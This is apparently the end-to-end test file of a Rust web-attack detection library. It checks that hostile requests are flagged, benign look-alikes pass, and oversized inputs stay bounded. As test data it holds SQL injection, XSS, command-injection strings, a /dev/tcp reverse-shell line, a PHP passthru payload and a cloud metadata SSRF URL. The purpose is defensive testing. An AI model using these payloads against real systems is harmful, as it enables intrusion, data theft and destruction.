//! End-to-end tests of `analyze` on hand-written requests: every parser
//! path, every decoder an attacker layers, configuration, and hostile input.

mod common;
use common::base64;
use mirrorguard::{analyze, AttackClass, Config, Engine, Exclusion, Part, Request, Verdict};

fn get(uri: &str) -> Verdict {
    analyze(&Request::builder().uri(uri).build())
}

fn post(content_type: &str, body: &[u8]) -> Verdict {
    analyze(
        &Request::builder()
            .method("POST")
            .uri("/submit")
            .header("Content-Type", content_type)
            .body(body)
            .build(),
    )
}

fn first(v: &Verdict) -> &mirrorguard::Finding {
    v.findings()
        .first()
        .unwrap_or_else(|| panic!("no finding: {v:?}"))
}

/// Each line of `testdata/e2e/evasions.txt`: `class<TAB>uri`. Every one is
/// an attack layered with an encoding the decoders claim to undo.
#[test]
fn evasions_are_decoded() {
    for line in include_str!("../testdata/e2e/evasions.txt").lines() {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (class, uri) = line.split_once('\t').expect("class<TAB>uri");
        let v = get(uri);
        assert!(v.is_attack(), "not detected: {uri}\n{}", v.to_json());
        assert!(
            v.findings().iter().any(|f| f.class.as_str() == class),
            "no {class} finding: {uri}\n{}",
            v.to_json()
        );
    }
}

/// Each line of `testdata/e2e/benign.txt` is a URI that must pass.
#[test]
fn benign_look_alikes_pass() {
    for uri in include_str!("../testdata/e2e/benign.txt").lines() {
        if uri.is_empty() || uri.starts_with('#') {
            continue;
        }
        let v = get(uri);
        assert!(!v.is_attack(), "false positive: {uri}\n{}", v.to_json());
    }
}

#[test]
fn locations_name_the_input() {
    let v = get("/a?x=1&id=1%27%20OR%201%3D1--");
    let f = first(&v);
    assert_eq!(
        (f.location.part, f.location.name.as_str()),
        (Part::Query, "id")
    );
    assert_eq!(f.location.decoders[0].as_str(), "percent");

    let v = post("application/json", br#"{"a":[{"b":"x' OR 'a'='a"}]}"#);
    assert_eq!(first(&v).location.part, Part::Json);
    assert_eq!(first(&v).location.name, "/a/0/b");

    let v = post(
        "application/x-www-form-urlencoded",
        b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    );
    assert_eq!(first(&v).location.part, Part::Form);
    assert_eq!(first(&v).location.name, "q");

    let v = analyze(
        &Request::builder()
            .header("Cookie", "a=b; sid=%3Csvg%20onload%3Dalert(1)%3E")
            .build(),
    );
    assert_eq!(first(&v).location.part, Part::Cookie);
    assert_eq!(first(&v).location.name, "sid");

    let v = analyze(
        &Request::builder()
            .header("X-Custom-Thing", "1' UNION SELECT password FROM users--")
            .build(),
    );
    assert_eq!(first(&v).location.part, Part::Header);
    assert_eq!(first(&v).location.name, "x-custom-thing");

    // The referring page's query is read argument by argument, as
    // analytics and log viewers read it.
    let referer = |url: &str| analyze(&Request::builder().header("Referer", url).build());
    let v = referer("https://shop.example/find?lang=en&q=x%3Buname%20-a%3Bid&page=2");
    assert!(
        v.findings().iter().any(|f| f.class == AttackClass::Rce
            && f.location.part == Part::Header
            && f.location.name == "referer?q"),
        "{}",
        v.to_json()
    );
    let v = referer("https://www.google.com/search?q=select+your+union+rep%2C+or+drop+us+a+line");
    assert!(!v.is_attack(), "{}", v.to_json());
}

#[test]
fn bodies_are_parsed_by_what_they_are() {
    // JSON sent as text/plain, a form sent as JSON.
    assert!(post("text/plain", br#"{"q":"1' UNION SELECT 1,2--"}"#).is_attack());
    let v = post("application/json", b"a=1&q=%27+OR+%271%27%3D%271");
    assert!(v.is_attack(), "{}", v.to_json());
    assert_eq!(first(&v).location.part, Part::Form);
    // XML text and attributes.
    assert!(post("application/xml", b"<a><b>1' OR '1'='1</b></a>").is_attack());
    // Declared XML whose root element has an HTML name is still XML.
    let v = post("text/xml", br#"<a p="x' or 1 &gt; 1"/>"#);
    assert_eq!(
        (first(&v).location.part, first(&v).location.name.as_str()),
        (Part::Xml, "/a/@p"),
        "{}",
        v.to_json()
    );
    assert!(post(
        "text/xml",
        b"<a href=\"x\" title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"/>"
    )
    .is_attack());
    // Weak as written, a tautology once its entity is decoded: the
    // decoded reading's score counts.
    let v = post("application/xml", b"<r><a p=\"x'or 1 &gt; 1\"></a></r>");
    assert!(v.is_attack(), "{}", v.to_json());
    // Multipart field.
    let body = b"--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n<script>alert(1)</script>\r\n--XyZ--\r\n";
    let v = post("multipart/form-data; boundary=XyZ", body);
    assert_eq!(first(&v).location.part, Part::Multipart);
    // Raw body of unknown type.
    assert!(post("application/octet-stream", b"x'; DROP TABLE users; --").is_attack());
    // Plain text that looks like a form or XML reaches the app whole: the
    // field split or XML reading must not cut the payload apart.
    for body in [
        &b"x=/tmp&&(sh)0>/dev/tcp/10.9.8.7/4444"[..],
        b"<?xml :passthru('id');",
    ] {
        let v = post("text/plain", body);
        assert!(v.is_attack(), "{}", String::from_utf8_lossy(body));
        assert!(
            v.findings().iter().any(|f| f.location.part == Part::Body),
            "{}",
            v.to_json()
        );
    }
    assert!(!post("text/plain", b"page=2&sort=price&dir=asc").is_attack());
}

#[test]
fn nested_formats_become_inputs() {
    let v = post(
        "application/x-www-form-urlencoded",
        b"payload=%7B%22name%22%3A%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%7D",
    );
    assert!(
        v.findings()
            .iter()
            .any(|f| f.location.part == Part::Form && f.location.name == "payload/name"),
        "{}",
        v.to_json()
    );
    // base64 of JSON in a cookie.
    let v = analyze(
        &Request::builder()
            .header(
                "Cookie",
                "state=eyJxIjoiMScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSJ9",
            )
            .build(),
    );
    assert!(v.is_attack(), "{}", v.to_json());
    assert!(first(&v)
        .location
        .decoders
        .iter()
        .any(|d| d.as_str() == "base64"));
}

#[test]
fn raw_http_is_parsed() {
    let raw = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n9\r\nuser=a%27\r\nb\r\n+OR+1%3D1--\r\n0\r\n\r\n";
    let req = Request::parse_http1(raw).unwrap();
    assert_eq!(req.body(), b"user=a%27+OR+1%3D1--");
    assert!(analyze(&req).is_attack());
    for bad in [
        &b""[..],
        b"GET",
        b"GET /\r\n\r\n",
        b"GET / HTTP/1.1\r\nNoColon\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nshort",
        b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
        b"\xff\xfe\x00 / HTTP/1.1\r\n\r\n",
    ] {
        let err = Request::parse_http1(bad).unwrap_err();
        assert!(err.is_http() && !err.to_string().is_empty());
    }
}

#[test]
fn config_shapes_the_verdict() {
    let attack = Request::builder()
        .uri("/admin/templates?html=%3Cscript%3Ealert(1)%3C/script%3E")
        .build();
    let excluded = Engine::new(Config {
        exclusions: vec![Exclusion {
            path_prefix: Some("/admin/".into()),
            name: Some("html".into()),
            class: Some(AttackClass::Xss),
            ..Exclusion::default()
        }],
        ..Config::default()
    })
    .unwrap();
    assert!(!excluded.analyze(&attack).is_attack());
    let sqli_only = Engine::new(Config {
        classes: vec![AttackClass::Sqli],
        ..Config::default()
    })
    .unwrap();
    assert!(!sqli_only.analyze(&attack).is_attack());
    assert!(analyze(&attack).is_attack());
    let err = Engine::new(Config {
        threshold: 0,
        ..Config::default()
    })
    .unwrap_err();
    assert_eq!(err.field(), Some("threshold"));
}

#[test]
fn verdict_json_shape() {
    let v = get("/?id=1%27%20OR%201%3D1--");
    let json: serde_json::Value = serde_json::from_str(&v.to_json()).unwrap();
    assert_eq!(json["attack"], true);
    assert!(json["score"].as_u64().unwrap() >= 5);
    let f = &json["findings"][0];
    assert_eq!(f["class"], "sqli");
    assert!(f["rule"].as_str().unwrap().starts_with("sqli."));
    assert_eq!(f["location"]["part"], "query");
    assert_eq!(f["location"]["name"], "id");
    assert_eq!(f["location"]["decoders"][0], "percent");
    assert!(f["evidence"].as_str().unwrap().contains("OR"));
    assert_eq!(json["limits"]["body_truncated"], false);
}

// Hostile input: bounded work, no panic, limits flagged.

#[test]
fn deep_json_is_depth_limited() {
    let mut body = "[".repeat(10_000);
    body.push_str("\"<script>alert(1)</script>\"");
    body.push_str(&"]".repeat(10_000));
    let v = post("application/json", body.as_bytes());
    assert!(v.limits().depth_limited);
    let body = "{\"a\":".repeat(10_000);
    let v = post("application/json", body.as_bytes());
    assert!(v.limits().depth_limited);
}

#[test]
fn long_names_are_cut_not_copied_per_value() {
    // A 300 KB key (or element name) over 3,000 values: each value's name
    // would repeat the key; names stop at 256 bytes instead.
    let key = "k".repeat(300_000);
    let items = vec!["\"a\""; 3_000].join(",");
    let json = format!(r#"{{"{key}":[{items},"x' OR 'a'='a"]}}"#);
    let xml = format!(
        "<{key}>{}<a p=\"x' OR 'a'='a\"/></{key}>",
        "<a>b</a>".repeat(3_000)
    );
    for (ct, body) in [("application/json", json), ("application/xml", xml)] {
        let v = post(ct, body.as_bytes());
        assert!(v.is_attack(), "{ct}");
        let name = &first(&v).location.name;
        assert!(
            name.len() <= 256 && name.starts_with("/kkk"),
            "{ct}: {name}"
        );
    }
}

#[test]
fn huge_body_is_truncated_at_the_limit() {
    let mut body = vec![b'a'; 50 << 20];
    body.extend_from_slice(b"&q=1' OR '1'='1");
    let v = post("application/x-www-form-urlencoded", &body);
    assert!(v.limits().body_truncated);
    assert!(!v.is_attack());
    // Padding under the limit does not hide the payload.
    let mut body = b"pad=".to_vec();
    body.extend(std::iter::repeat_n(b'a', 200_000));
    body.extend_from_slice(b"&q=1%27+OR+%271%27%3D%271");
    let v = post("application/x-www-form-urlencoded", &body);
    assert!(v.is_attack() && !v.limits().body_truncated);
}

#[test]
fn many_query_args_are_capped() {
    let mut uri = String::from("/?");
    for i in 0..1_000_000 {
        uri.push_str(&format!("a{i}=1&"));
    }
    let v = get(&uri);
    assert!(v.limits().inputs_truncated);
    assert!(!v.is_attack());
}

#[test]
fn a_hundred_megabyte_body_is_cut_at_the_limit() {
    let body = vec![b'x'; 100 << 20];
    let v = post("text/plain", &body);
    assert!(v.limits().body_truncated);
    assert!(!v.is_attack());
}

#[test]
fn a_multipart_with_a_hundred_thousand_parts_is_capped() {
    let mut body = Vec::new();
    for i in 0..100_000 {
        body.extend_from_slice(
            format!("--b\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nv\r\n").as_bytes(),
        );
    }
    body.extend_from_slice(b"--b--\r\n");
    let v = post("multipart/form-data; boundary=b", &body);
    assert!(v.limits().body_truncated || v.limits().inputs_truncated);
    assert!(!v.is_attack());
}

#[test]
fn pathological_base64_is_bounded() {
    // Base64 of base64 of ... : each layer is a new input, up to the
    // decode depth; and a megabyte that is almost base64 everywhere.
    let mut layer = b"' OR 1=1--".to_vec();
    for _ in 0..12 {
        layer = base64(&layer).into_bytes();
    }
    let body = format!(r#"{{"data":"{}"}}"#, String::from_utf8(layer).unwrap());
    let v = post("application/json", body.as_bytes());
    assert!(v.limits().depth_limited);
    let almost: Vec<u8> = b"QUJD"
        .iter()
        .cycle()
        .take(1 << 20)
        .copied()
        .chain(*b"!")
        .collect();
    let v = post("text/plain", &almost);
    let _ = v.to_json();
}

#[test]
fn malformed_bodies_do_not_panic() {
    let cases: [(&str, &[u8]); 8] = [
        ("application/json", b"{\"a\": [1, 2, {\"b\": "),
        (
            "application/json",
            b"\xff\xfe{\"\xc0\xaf\": \"\xed\xa0\x80\"}",
        ),
        ("application/json", b"{\"a\":\"\\u12\"}"),
        ("text/xml", b"<a><b attr='x></a"),
        ("text/xml", b"<!DOCTYPE x [<!ENTITY"),
        (
            "multipart/form-data; boundary=zz",
            b"--zz\r\nContent-Disposition: form-data; name=\"a\"\r\n",
        ),
        ("multipart/form-data", b"--zz\r\n\r\n"),
        ("application/x-www-form-urlencoded", b"=&&==%%%zz\xff"),
    ];
    for (ct, body) in cases {
        let v = post(ct, body);
        let _ = v.to_json();
    }
}

/// Inputs judged benign are remembered across requests: the verdicts of a
/// warm engine are those of one that remembers nothing, for an input benign
/// in one place and hostile in another too.
#[test]
fn remembered_values_change_no_verdict() {
    let metadata = "169.254.169.254/latest/meta-data";
    let (fetch, named) = (
        format!("/fetch?url={metadata}"),
        format!("/fetch?{metadata}=1"),
    );
    let requests = [
        Request::builder()
            .uri("/search?q=shoes&sort=price")
            .header("X-Upstream", metadata)
            .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
            .build(),
        Request::builder()
            .uri(&fetch)
            .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
            .build(),
        Request::builder().uri(&named).build(),
        Request::builder()
            .uri("/search?q=shoes&sort=price")
            .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) sqlmap/1.7")
            .build(),
    ];
    let cold = Engine::new(Config {
        limits: mirrorguard::Limits {
            value_cache: 0,
            ..Default::default()
        },
        ..Config::default()
    })
    .unwrap();
    let warm = Engine::new(Config::default()).unwrap();
    let expected: Vec<String> = requests.iter().map(|r| cold.analyze(r).to_json()).collect();
    assert!(!cold.analyze(&requests[0]).is_attack());
    assert!(cold.analyze(&requests[1]).is_attack());
    assert!(cold.analyze(&requests[3]).is_attack());
    for round in 0..3 {
        for (r, want) in requests.iter().zip(&expected) {
            assert_eq!(&warm.analyze(r).to_json(), want, "round {round}");
        }
    }
}
